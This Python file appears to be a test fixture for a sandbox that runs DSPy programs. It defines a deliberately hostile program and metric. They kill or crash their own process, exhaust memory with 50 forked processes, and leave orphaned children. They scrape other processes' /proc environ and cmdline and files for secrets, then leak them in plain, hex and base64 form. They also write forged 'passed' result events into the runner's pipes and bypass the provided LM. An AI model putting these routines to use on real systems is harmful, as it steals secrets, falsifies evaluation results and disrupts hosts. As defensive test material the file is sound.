"""A program and a metric that treat their process badly, as the first word of a message says: by accident, as code of a team's own does,
or on purpose."""

import ctypes
import json
import os
import re
import secrets
import signal
import stat
import subprocess
import sys
import threading
from base64 import b64encode
from contextlib import suppress
from pathlib import Path
from typing import Any

import dspy

from stillhouse_programs.engine import make_lm


class Unprintable(Exception):
    def __str__(self) -> str:
        raise RuntimeError("no words for it")


class Unpicklable(Exception):
    def __init__(self) -> None:
        super().__init__("held", threading.Lock())


def behave(how: str) -> None:
    """`dies` ways end the process, the others only try."""
    if how == "exits":
        os._exit(3)
    if how == "kills":
        os.kill(os.getpid(), signal.SIGKILL)
    if how == "segfaults":
        ctypes.string_at(0)
    if how == "greedy":
        bytearray(1 << 50)
    if how == "blocks":
        ctypes.PyDLL(None).sleep(3600)  # in C, and with the interpreter's lock
    if how == "crowds":
        fill_memory_by_many()
    if how == "leaves":
        leave_a_child()
    faults: dict[str, BaseException] = {
        "quits": SystemExit(4),
        "interrupts": KeyboardInterrupt(),
        "shouts": ValueError("x" * 30_000_000),
        "mumbles": ValueError("\ud800"),
        "mute": Unprintable(),
        "locked": Unpicklable(),
    }
    if how in faults:
        raise faults[how]


def fill_memory_by_many() -> None:
    """50 processes of 40 MB each, none of which is near a limit of its own."""
    for _ in range(50):
        if os.fork() == 0:
            held = b"x" * (40 << 20)
            while held:
                signal.pause()
    os.wait()


def leave_a_child() -> None:
    """In a session of its own, with a name to find it by: numbers of processes are others outside of a sandbox."""
    name = secrets.token_hex(8)
    subprocess.Popen([sys.executable, "-c", "import signal; signal.pause()", name], start_new_session=True)
    raise ValueError(f"left {name}")


def attack(answer: dspy.Predict, message: str) -> str:
    """What the program does with the LM that it was given, and with what it finds around it; the message that it then answers."""
    how, _, *places = message.split()[:9]
    if how == "tells":
        found = json.dumps(canaries(places))
        print(found)
        print(found, file=sys.stderr)
        raise ValueError(found)
    if how == "hands":
        return f"{message} {json.dumps(canaries(places))}"
    if how == "dials":
        own = dspy.LM("openai/gpt-9", api_base="https://api.openai.com/v1", api_key="sk-its-own", num_retries=0, cache=False)
        with dspy.context(lm=own):
            dspy.Predict("message -> answer")(message=message)
    if how == "reaches":
        relay = answer.lm._relay
        with dspy.context(lm=make_lm("gpt-9", {}, (relay.engine._client, relay._client))):
            dspy.Predict("message -> answer")(message=message)
    if how == "forges":
        forge()
    if how == "spends":
        for _ in range(1000):
            with suppress(Exception):
                answer(message=message)
    return message


def forge() -> None:
    """Say in the runner's place, to whichever pipe leads to the server, that an example is done which nobody asked for."""
    told = [{"v": 1, "id": n, "event": "example_done", "index": 1_000_000, "passed": True, "rollouts_used": 1} for n in range(1, 30)]
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                os.write(int(name), "".join(f"{json.dumps(each)}\n" for each in told).encode())


def canaries(places: list[str]) -> dict[str, list[str]]:
    """What looks like a secret of the tests, here, in other processes, and in the files at and below these places: plain and disguised."""
    files = [path for place in places for path in (Path(place), *Path(place).rglob("*"))]
    seen = {"environment": json.dumps(dict(os.environ)).encode()}
    for path in (*Path("/proc").glob("*/environ"), *Path("/proc").glob("*/cmdline"), *files):
        with suppress(OSError):
            seen[str(path)] = path.read_bytes()
    found = {name: re.findall(rb"canary-[0-9a-z-]+", text) for name, text in seen.items()}
    shown = {name: told for name, told in found.items() if told or name == "environment"}
    return {name: [form for each in told for form in (each.decode(), each.hex(), b64encode(each).decode())] for name, told in shown.items()}


class Hostile(dspy.Module):
    def __init__(self) -> None:
        super().__init__()
        self.answer = dspy.Predict("message -> answer")

    def forward(self, message: str) -> dspy.Prediction:
        behave(message.split()[0])
        return self.answer(message=attack(self.answer, message))


def make_hostile() -> Hostile:
    return Hostile()


def hostile_metric(example: dspy.Example, prediction: dspy.Prediction, trace: Any = None) -> bool:
    behave(example.message.split()[1])
    return True
